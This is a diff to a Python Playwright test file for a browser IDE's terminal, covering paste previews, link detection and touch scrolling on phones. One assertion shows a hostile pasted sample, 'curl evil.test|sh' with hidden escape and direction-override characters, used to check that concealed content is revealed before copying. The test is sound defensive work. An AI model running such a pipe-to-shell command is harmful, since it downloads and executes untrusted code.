@@ -7,11 +7,12 @@ import re
 import select
 
 import pytest
-from playwright.sync_api import Locator, expect
+from playwright.sync_api import Locator, Page, expect
 
 from tests.browser import axe
 from tests.browser.api import Project
-from tests.browser.ide import AGENT_MS, Cell, Ide
+from tests.browser.browsers import Visit
+from tests.browser.ide import AGENT_MS, PHONE, Cell, Ide
 from tests.browser.waiting import eventually
 
 pytestmark = [pytest.mark.browser, pytest.mark.slow]
@@ -186,8 +187,13 @@ def test_nothing_is_copied_or_pasted_that_cannot_be_seen(ide: Ide, shell: Cell) 
     whole = shell.root.get_by_role("region", name="The whole text").locator("pre")
     expect(whole).to_contain_text("curl evil.test|sh␛[201~<202E>gpj")
     expect(shell.root).to_contain_text("41 lines, 76 characters. 2 control characters will be left out.")
-    whole.evaluate("box => box.scrollTo(0, box.scrollHeight)")
-    assert whole.evaluate("box => box.scrollTop") > 0
+    # By keyboard as well, and back.
+    shell.keys.press("Alt+o")
+    expect(shell.button("Copy")).to_be_focused()
+    ide.page.keyboard.press("Shift+Tab")
+    expect(whole).to_be_focused()
+    ide.page.keyboard.press("End")
+    whole.page.wait_for_function("box => box.scrollTop > 0", arg=whole.element_handle())
     assert axe.violations(ide.page) == []
 
     shell.button("Copy").click()
@@ -202,13 +208,13 @@ def test_nothing_is_copied_or_pasted_that_cannot_be_seen(ide: Ide, shell: Cell) 
 
 def test_links_show_where_they_lead_and_open_with_ctrl(ide: Ide, shell: Cell) -> None:
     shell.type(
-        r"printf 'see https://plain.example/a now\n\033]8;;https://made.example/b\033\\%s\033]8;;\033\\\n' de''ep"
+        r"printf 'see https://plain.example/a_(b)?q.\n\033]8;;https://made.example/b\033\\%s\033]8;;\033\\\n' de''ep"
     )
     expect(row(shell, "deep")).to_be_visible()
     ide.watch.expect(r"^request to elsewhere: https://(plain|made)\.example/")
     ide.context.route("https://*.example/**", lambda route: route.fulfill(body="there"))
     for made in (False, True):
-        text, target = ("deep", "https://made.example/b") if made else ("plain", "https://plain.example/a")
+        text, target = ("deep", "https://made.example/b") if made else ("plain", "https://plain.example/a_(b)?q")
         point_at(ide, row(shell, "deep" if made else "see https"), text)
         expect(shell.root).to_contain_text(f"{target}Ctrl and click opens it")
 
@@ -281,3 +287,64 @@ def rows_of(shell: Cell) -> str:
         lambda: (shell.screen.text_content() or "").strip(),
         lambda now: re.fullmatch(r"\d+ \d+", now) is not None,
     )
+
+
+# --- by touch -------------------------------------------------------------------------------------------------
+
+
+class Finger:
+    """Touches the page as a hand does; from its first visit on, it has no mouse."""
+
+    def lay(self, page: Page) -> None:
+        self._browser = page.context.new_cdp_session(page)
+        self._browser.send("Emulation.setTouchEmulationEnabled", {"enabled": True, "maxTouchPoints": 1})
+
+    def swipe(self, shell: Cell, *, by: int) -> None:
+        """Up the screen where negative, and more slowly than would count as a tap."""
+        box = shell.screen.bounding_box()
+        assert box is not None
+        x, y = box["x"] + 100, box["y"] + box["height"] / 2
+        self._touch("touchStart", x, y - by / 2)
+        for step in range(1, 11):
+            self._touch("touchMove", x, y - by / 2 + by * step / 10)
+        self._touch("touchEnd")
+
+    def _touch(self, kind: str, *place: float) -> None:
+        points = [{"x": place[0], "y": place[1]}] if place else []
+        self._browser.send("Input.dispatchTouchEvent", {"type": kind, "touchPoints": points})
+
+
+def test_a_finger_scrolls_and_has_the_keys_that_its_keyboard_has_not(project: Project, visit: Visit) -> None:
+    project.call("POST", "/agents/sh/launch", {"view": "terminal", "nodeId": None})
+    finger = Finger()
+    ide = visit(size=PHONE, before=finger.lay)
+    ide.page.get_by_role("button", name=re.compile("^Sh ")).click()
+    shell = ide.cell("sh")
+    expect(shell.screen).to_contain_text(READY, timeout=AGENT_MS)
+    shell.type("seq 1 300")
+    expect(row(shell, "300")).to_be_visible()
+    finger.swipe(shell, by=320)
+    expect(row(shell, "300")).to_have_count(0)
+    shell.root.get_by_role("button", name="To the end").click()
+    expect(row(shell, "300")).to_be_visible()
+
+    # A program that has the screen scrolls itself: each line is an arrow key, or a turn of the wheel of its mouse.
+    for modes, turn in (("1049h", r"(\^\[\[B){20}"), (r"1049h\033[?1000h\033[?1006h", r"(\^\[\[<65;\d+;\d+M){20}")):
+        shell.type(rf"printf '\033[?{modes}'; cat -v")
+        expect(shell.screen).not_to_contain_text("300")
+        finger.swipe(shell, by=-324)
+        shell.button("Enter").click()
+        expect(shell.screen).to_contain_text(re.compile(turn))
+        shell.button("Ctrl").click()
+        expect(shell.button("Ctrl")).to_have_attribute("aria-pressed", "true")
+        shell.keys.press_sequentially("c")
+        expect(shell.screen).to_contain_text(re.compile(r"\^C\s*[$#]\s*$"))
+        shell.type(r"printf '\033[?1000l\033[?1049l'")
+        expect(row(shell, "300")).to_be_visible()
+
+    shell.button("Up").click()
+    shell.button("Enter").click()
+    assert axe.violations(ide.page) == []
+    shell.menu("Search in the terminal")
+    ide.page.keyboard.type("299")
+    expect(shell.root.get_by_role("search")).to_contain_text("1 of 1")
